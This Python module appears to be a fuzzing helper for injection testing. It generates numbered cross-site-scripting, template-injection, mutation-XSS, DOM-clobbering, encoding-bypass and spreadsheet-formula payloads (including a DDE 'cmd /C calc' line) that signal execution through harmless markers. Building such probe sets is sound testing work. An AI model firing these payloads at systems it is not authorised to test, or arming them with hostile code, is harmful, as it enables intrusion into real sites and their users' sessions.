"""A thousand texts that would run somewhere, if anything took them for more than text.

Each has a number of its own. One that runs opens a dialog, leaves a mark in the window, or asks for
`/ran?` with that number; so do those that only load something.
"""

from __future__ import annotations

from itertools import count, islice, product

MARK = "ran"
WAYS = (
    "alert(NUMBER)",
    "window.ran=NUMBER",
    "fetch('/ran?NUMBER')",
    "import('/ran?NUMBER')",
    "eval('top.ran=NUMBER')",
)
BEFORE = ("", 'x">', "x'>", "x ")
VECTORS = (
    # Scripts, bare and after whatever might have been open
    "<script>RUN</script>", "<ScRiPt >RUN</sCrIpT >", "<script/x>RUN</script/>", "<<script>RUN//<</script>",
    "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>",
    "</script><script>RUN</script>", "--><script>RUN</script>", "]]><script>RUN</script>",
    "</option></select><script>RUN</script>", "<script src=/ran?NUMBER></script>",
    "<script type=module src=/ran?NUMBER></script>", "<!--><script>RUN</script>-->",
    # Handlers
    "<img src=x onerror=RUN>", "<img/src/onerror=RUN>", "<body onload=RUN>", "<input autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>", "<video><source onerror=RUN></video>", "<audio src onerror=RUN>",
    "<marquee onstart=RUN>x</marquee>", "<x-y onfocus=RUN tabindex=1 autofocus>",
    # Out of an attribute
    '" onmouseover=RUN x="', "' onfocus=RUN autofocus x='", "` onload=RUN `", "x onerror=RUN",
    # Scripts' own texts, and templates
    "';RUN;//", '";RUN;//', "\\';RUN;//", "\\u0027;RUN;//", "${RUN}", "{{RUN}}", "{% debug %}{{ 'NUMBER'|safe }}",
    "{{constructor.constructor('RUN')()}}", "#{RUN}", "<%= RUN %>", "[[RUN]]",
    # Addresses
    "javascript:RUN", "JaVaScRiPt:RUN", "java&#9;script:RUN", "data:text/html,<script>RUN</script>",
    '<a href="javascript:RUN">x</a>', "[x](javascript:RUN)", "![x](/ran?NUMBER)", "vbscript:RUN",
    '<iframe src="javascript:RUN"></iframe>', '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<object data="javascript:RUN"></object>', '<embed src="javascript:RUN">', "<base href=//ran.example/NUMBER/>",
    '<meta http-equiv=refresh content="0;url=/ran?NUMBER">', "<form action=/ran?NUMBER><button autofocus>x",
    # What loads without running
    "<img src=/ran?NUMBER>", "<link rel=stylesheet href=/ran?NUMBER>", "<link rel=prefetch href=/ran?NUMBER>",
    "<style>*{background:url(/ran?NUMBER)}</style>", "<p style=background:url(/ran?NUMBER)>x</p>",
    "x:expression(RUN)", "</style><img src=/ran?NUMBER>", "<table background=/ran?NUMBER>",
    # Drawings and formulas
    "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>', "<svg><use href=/ran?NUMBER#x /></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>", '<math href="javascript:RUN">x</math>',
    # What turns into something else when it is read twice
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>", '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>", "<template><img src=x onerror=RUN></template>",
    "<select><template><script>RUN</script>", "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    # Names that a page's own scripts may ask for
    "<a id=ran name=NUMBER></a>", "<form id=ran><input name=parentNode></form>", "<img name=getElementById src=/ran?NUMBER>",
    # The same in other writings
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "&#x3c;img src=x onerror=RUN&#x3e;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;", "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cscript\\x3eRUN\\x3c/script\\x3e", "＜script＞RUN＜/script＞",
    "‹script›RUN‹/script›", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "À¼scriptÀ¾RUN", "ʺ onload=RUN ʺ", "<ſcript>RUN</ſcript>",
    # Formulas of a spreadsheet
    '=HYPERLINK("/ran?NUMBER","x")', "=1+1+NUMBER", "+cmd|' /C calc'!NUMBER", "-2+3+cmd|' /C calc'!NUMBER",
)  # fmt: skip


def payloads(most: int) -> list[str]:
    """So many of them, those of all sorts first."""
    numbers = count(10_001)
    made = (
        f"{before}{vector}".replace("RUN", way).replace("NUMBER", str(next(numbers)))
        for before, way, vector in product(BEFORE, WAYS, VECTORS)
    )
    return list(islice(dict.fromkeys(made), most))


def batches(texts: list[str], length: int) -> list[list[str]]:
    """The texts in groups, each of which fits into a field of that length."""
    found: list[list[str]] = [[]]
    for text in texts:
        if len(" ".join([*found[-1], text])) > length:
            found.append([])
        found[-1].append(text)
    return found
